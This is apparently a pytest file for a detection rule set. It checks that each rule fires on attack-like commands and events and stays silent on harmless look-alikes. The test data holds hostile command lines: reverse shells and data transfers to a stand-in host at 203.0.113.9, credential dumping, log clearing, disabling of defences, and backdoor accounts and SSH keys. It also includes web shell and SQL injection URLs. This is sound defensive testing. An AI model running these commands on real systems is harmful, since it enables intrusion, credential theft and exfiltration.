"""Our own rules on what devices, hosts and databases say, each with what it must leave alone."""

from __future__ import annotations

from collections import Counter
from functools import cache
from typing import Any

import pyarrow as pa
import pytest

from amends.tables.timeline import EVENTS
from amends.timeline.sigma import Detector, RuleSet, load_rules

OUT, IN, IN2 = "203.0.113.50", "10.2.0.15", "10.2.0.99"
MINUTE = 60_000_000


@cache
def own() -> RuleSet:
    """Return our own rules."""
    return load_rules()


def batch_of(events: list[dict[str, Any]]) -> pa.RecordBatch:
    """Return events by their columns; times in minutes."""
    rows = [{"at": n * MINUTE, **e, "event_id": n + 1, "line": n + 1} for n, e in enumerate(events)]
    return pa.RecordBatch.from_pylist(
        [{**r, "at": r["at"]} for r in rows],
        schema=pa.schema(
            [(f.name, pa.int64() if f.name == "at" else f.type) for f in EVENTS.schema]
        ),
    )


def names_fired(events: list[dict[str, Any]]) -> Counter[str]:
    """Return how often each rule fired, by its name."""
    detector = Detector(own())
    detector.take(batch_of(events))
    return Counter({f.rule.name: f.count for f in detector.fired()})


COMMANDS = {
    "config_export": (
        [
            "copy running-config tftp://203.0.113.9/r1",
            "do copy run ftp:",
            "copy startup-config scp://a@203.0.113.9/x",
            "show run | redirect tftp://203.0.113.9/r",
            "execute backup config tftp all.conf 203.0.113.9",
            "file copy /config/juniper.conf.gz user@203.0.113.9:/tmp/",
        ],
        ["copy running-config startup-config", "show clock", "copy tftp://10.0.0.1/x flash:"],
    ),
    "config_view": (
        [
            "show running-config",
            "do show run",
            "show configuration | display set",
            "more system:running-config",
        ],
        ["show interfaces", "show run interface gi0/1"],
    ),
    "device_account": (
        [
            "username eve privilege 15 secret 9 x",
            "set system login user eve class super-user",
            "config system admin",
        ],
        ["show users", "username"],
    ),
    "device_opened": (
        ["no access-list 101", "permit ip any any", "set system services telnet"],
        ["show access-lists"],
    ),
    "account_command": (
        [
            "useradd -m eve",
            "/usr/sbin/useradd eve",
            "net user eve P@ss /add",
            "net localgroup administrators eve /add",
            "CREATE ROLE eve LOGIN",
            "echo 'eve ALL=(ALL) NOPASSWD: ALL'",
        ],
        ["net user", "ls /etc/useradd.conf.d", "net use z: \\\\fs\\share"],
    ),
    "lateral_tool": (
        [
            "psexec.exe \\\\srv1 cmd",
            "C:\\t\\PsExec64.exe -accepteula \\\\x",
            "wmic /node:srv1 process call create x",
            "sshpass -p x ssh a@b",
            "python3 wmiexec.py a@b",
            "sc \\\\srv1 create evil binPath= x",
        ],
        ["ssh a@b", "sc query", "wmic os get caption", "cat psexec-notes.txt"],
    ),
    "credential_tool": (
        [
            "cat /etc/shadow",
            "procdump64.exe -ma lsass.exe",
            "reg save HKLM\\SAM s",
            "cat /home/dba/.pgpass",
            "grep -ri password /opt/app",
            "cp /home/x/.ssh/id_rsa /tmp/k",
        ],
        ["cat /etc/hosts", "reg query HKLM\\Software", "grep -c error app.log", "cat id_rsa.pub"],
    ),
    "tunnel_tool": (
        [
            "ssh -N -R 2222:localhost:22 a@203.0.113.9",
            "ssh -fN -D 1080 x@h",
            "./chisel client 203.0.113.9:80 R:socks ",
            "netsh interface portproxy add v4tov4 listenport=1",
            "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
            "nc 203.0.113.9 44 -e /bin/sh",
        ],
        ["ssh -l admin host", "ssh host -p 2222", "nc -z host 22"],
    ),
    "scan_tool": (
        ["nmap -sS 10.0.0.0/8", "/usr/bin/masscan -p22 10.0.0.0/8"],
        ["man nmap-notes", "ping 10.0.0.1"],
    ),
    "dump_tool": (
        [
            "pg_dump -U app customers",
            "/usr/bin/mysqldump --all-databases ",
            "COPY customers TO STDOUT",
            "COPY (SELECT * FROM customers) TO '/tmp/c.csv' CSV",
            "SELECT * FROM c INTO OUTFILE '/tmp/x'",
            "bcp crm.dbo.customers out c.dat -S x",
            "expdp system/x full=y",
            "BACKUP DATABASE crm TO DISK='x'",
        ],
        ["COPY customers FROM STDIN", "SELECT 1", "pg_restore -d x y", "pg_dump_notes.txt"],
    ),
    "archive_made": (
        [
            "tar czf /tmp/a.tgz /var/lib/postgresql/16",
            "zip -r a.zip /srv/share/hr",
            "7z a x.7z D:\\shares\\hr",
            "gzip /tmp/customers.sql",
            "rar a c.rar \\\\fs1\\hr$\\",
        ],
        ["tar xzf kernel.tgz", "zip -r site.zip ./www", "target /home/x"],
    ),
    "archive_locked": (
        ["7z a -mx=9 -pHunter2 x.7z y", "rar a -hpx y.rar z", "zip -P secret a.zip b"],
        ["7z a x.7z y", "zip a.zip b"],
    ),
    "staged": (
        [
            "pg_dump crm > /tmp/crm.sql",
            "tar -czf /var/tmp/.x.tgz /home/y",
            "mysqldump crm --result-file=/dev/shm/c.sql",
        ],
        ["pg_dump crm > /backup/crm.sql"],
    ),
    "transfer_command": (
        [
            "scp /tmp/c.tgz eve@203.0.113.9:/x",
            "scp -P 2222 c.tgz 203.0.113.9:",
            "rsync -az /srv/hr eve@203.0.113.9:/in/",
            "curl -T c.tgz https://203.0.113.9/",
            "curl -F file=@c.tgz https://x.example/",
            "rclone copy /srv remote:b",
            "aws s3 cp c.tgz s3://bucket/",
            "wget --post-file=c.tgz http://203.0.113.9/",
            "nc 203.0.113.9 443 < c.tgz",
        ],
        [
            "scp eve@host:/x .",
            "curl https://example.com/",
            "aws s3 ls",
            "rsync -a /a /b",
            "wget http://x.example/a",
        ],
    ),
    "log_command": (
        [
            "history -c",
            "unset HISTFILE",
            "rm -f /var/log/auth.log",
            "wevtutil cl Security",
            "Clear-EventLog -LogName Security",
            "systemctl stop rsyslog",
            "service auditd stop",
            "auditctl -e 0",
            "no logging 10.2.0.9",
            "clear logging",
            "delete system syslog host 10.2.0.9",
            "> /var/log/wtmp",
            "SET GLOBAL general_log = 'OFF'",
            "ALTER SYSTEM SET pgaudit.log = 'none'",
        ],
        [
            "history",
            "ls /var/log",
            "wevtutil qe Security",
            "logging host 10.2.0.9",
            "systemctl restart rsyslog",
            "rm /tmp/x",
        ],
    ),
    "defence_disabled": (
        [
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "netsh advfirewall set allprofiles state off",
            "ufw disable",
            "setenforce 0",
            "iptables -F",
            "systemctl disable --now firewalld",
            "sc stop WinDefend",
        ],
        ["ufw status", "iptables -L", "systemctl status firewalld", "getenforce"],
    ),
    "ssh_key_added": (
        ["echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", "ssh-copy-id a@b"],
        ["cat .ssh/authorized_keys.bak.list"],
    ),
}


@pytest.mark.parametrize("name", COMMANDS)
def test_a_command_is_told_from_its_neighbours(name: str) -> None:
    right, wrong = COMMANDS[name]
    for command in right:
        assert (
            names_fired([{"kind": "process", "action": "command", "command": command}])[name] == 1
        ), command
    for command in wrong:
        assert (
            names_fired([{"kind": "process", "action": "command", "command": command}])[name] == 0
        ), command


def login(**more: Any) -> dict[str, Any]:
    """Return a sign-in by ssh that succeeded."""
    return {
        "kind": "login",
        "action": "login",
        "outcome": "success",
        "logon_type": "ssh",
        "account": "ops",
        "src_ip": IN,
        "host": "r1",
        **more,
    }


def test_a_sign_in_from_outside_is_told_once_for_each_host_and_address() -> None:
    events = [
        login(src_ip=OUT),
        login(src_ip=OUT),
        login(src_ip=IN),
        login(src_ip=OUT, host="r2"),
        login(src_ip=OUT, logon_type="vpn"),
        login(src_ip=OUT, outcome="failure"),
    ]
    assert names_fired(events)["outside_sign_in"] == 2


def test_a_sign_in_to_a_router_from_outside_is_critical_and_one_to_a_server_is_not() -> None:
    router = [login(src_ip=OUT, source="syslog/cisco_ios")]
    server = [login(src_ip=OUT, source="syslog/sshd")]
    assert names_fired(router)["outside_sign_in_device"] == 1
    assert names_fired(server)["outside_sign_in_device"] == 0


def test_a_new_network_of_a_vpn_account_needs_an_old_one() -> None:
    events = [
        login(logon_type="vpn", src_ip=ip)
        for ip in ("198.51.100.7", "198.51.100.9", "203.0.113.4", "203.0.113.5")
    ]
    assert names_fired(events)["vpn_new_network"] == 1
    assert names_fired(events[:2])["vpn_new_network"] == 0


def test_spraying_is_many_accounts_and_guessing_is_one() -> None:
    spray = [login(outcome="failure", account=f"user{n}", src_ip=OUT) for n in range(9)]
    guess = [login(outcome="failure", src_ip=OUT, at=n * MINUTE // 10) for n in range(25)]
    slow = [login(outcome="failure", src_ip=OUT, at=n * 60 * MINUTE) for n in range(25)]
    assert names_fired(spray)["password_spraying"] == 1
    assert names_fired(spray)["brute_force"] == 0
    assert names_fired(guess)["brute_force"] == 1
    assert names_fired(guess)["password_spraying"] == 0
    assert not names_fired(slow)


def test_failures_then_success_count_only_in_that_order() -> None:
    failures = [login(outcome="failure", src_ip=IN2, at=n * MINUTE // 4) for n in range(6)]
    late = login(src_ip=IN2, at=5 * MINUTE)
    assert names_fired([*failures, late])["guessed"] == 1
    assert names_fired([*failures, {**late, "account": "other"}])["guessed"] == 0
    assert names_fired([{**late, "at": -MINUTE}, *failures])["guessed"] == 0
    assert names_fired([*failures[:3], late])["guessed"] == 0


def test_a_sequence_names_all_events_behind_it() -> None:
    failures = [login(outcome="failure", src_ip=IN2, at=n * MINUTE // 4) for n in range(6)]
    detector = Detector(own())
    detector.take(batch_of([*failures, login(src_ip=IN2, at=5 * MINUTE)]))
    (row,) = [r for r in detector.finish().to_pylist() if r["title"] == "Sign-in after failures"]
    assert row["event_ids"] == [1, 2, 3, 4, 5, 6, 7]
    assert row["n_events"] == 7
    assert row["technique"] == "T1110"
    assert row["group"] == f"src_ip={IN2}, account=ops"


@pytest.mark.parametrize(
    ("name", "event", "near"),
    [
        (
            "outside_to_management",
            {"kind": "connection", "action": "allow", "src_ip": OUT, "dst_ip": IN, "dst_port": 22},
            {"dst_port": 443},
        ),
        (
            "large_upload",
            {
                "kind": "connection",
                "action": "flow",
                "src_ip": IN,
                "dst_ip": OUT,
                "bytes_in": 200_000_000,
            },
            {"dst_ip": IN2},
        ),
        (
            "large_fetch",
            {"kind": "web", "action": "request", "src_ip": OUT, "bytes_out": 200_000_000},
            {"bytes_out": 20_000},
        ),
        ("bulk_read", {"kind": "query", "action": "select", "rows": 100_000}, {"rows": 99_999}),
        ("account_created", {"kind": "account", "action": "create"}, {"outcome": "failure"}),
        ("account_privilege", {"kind": "account", "action": "group"}, {"action": "modify"}),
        ("log_cleared", {"kind": "log", "action": "clear"}, {"action": "rotate"}),
        (
            "log_stopped",
            {"kind": "service", "action": "stop", "object": "rsyslog.service"},
            {"object": "nginx.service"},
        ),
        (
            "web_shell",
            {"kind": "web", "url": "/uploads/x.php?cmd=whoami", "status": 200},
            {"status": 404},
        ),
        (
            "web_attack",
            {"kind": "web", "url": "/a?id=1+UNION+SELECT+1"},
            {"url": "/a?q=trade+union"},
        ),
        (
            "staged",
            {"kind": "file", "action": "create", "object": "/dev/shm/x.tar.gz"},
            {"object": "/backup/x.tar.gz"},
        ),
        ("config_export", {"kind": "config", "action": "export"}, {"action": "change"}),
        ("telnet_sign_in", login(logon_type="telnet"), {"logon_type": "ssh"}),
    ],
)
def test_an_event_is_told_from_its_neighbour(
    name: str, event: dict[str, Any], near: dict[str, Any]
) -> None:
    assert names_fired([event])[name] == 1
    assert names_fired([{**event, **near}])[name] == 0


def test_bytes_sent_in_parts_add_up() -> None:
    part = {
        "kind": "connection",
        "action": "flow",
        "src_ip": IN,
        "dst_ip": OUT,
        "bytes_in": 60_000_000,
    }
    assert names_fired([part] * 9)["upload_sum"] == 1
    assert names_fired([part] * 8)["upload_sum"] == 0


def test_an_ordinary_day_is_quiet() -> None:
    day = [
        login(),
        login(logon_type="vpn", src_ip=OUT),
        {"kind": "logout", "action": "logout", "account": "ops"},
        {
            "kind": "web",
            "action": "request",
            "url": "/index.html",
            "status": 200,
            "src_ip": OUT,
            "bytes_out": 5_000,
        },
        {
            "kind": "query",
            "action": "select",
            "command": "SELECT name FROM plans WHERE id = 7",
            "rows": 1,
        },
        {"kind": "process", "action": "command", "command": "/usr/bin/apt-get update"},
        {
            "kind": "connection",
            "action": "allow",
            "src_ip": IN,
            "dst_ip": OUT,
            "dst_port": 443,
            "bytes_in": 9_000,
        },
        {
            "kind": "file",
            "action": "read",
            "object": "/srv/share/plan.docx",
            "account": "ops",
            "src_ip": IN,
        },
    ]
    assert not names_fired(day)


def test_every_rule_is_taken_and_says_what_it_needs() -> None:
    rules = own()
    assert not rules.refusals
    for rule in (*rules.rules, *rules.correlations):
        assert rule.level
        assert any(tag.startswith("attack.t1") for tag in rule.tags), rule.title
        assert rule.name
        assert rule.pack == "own"
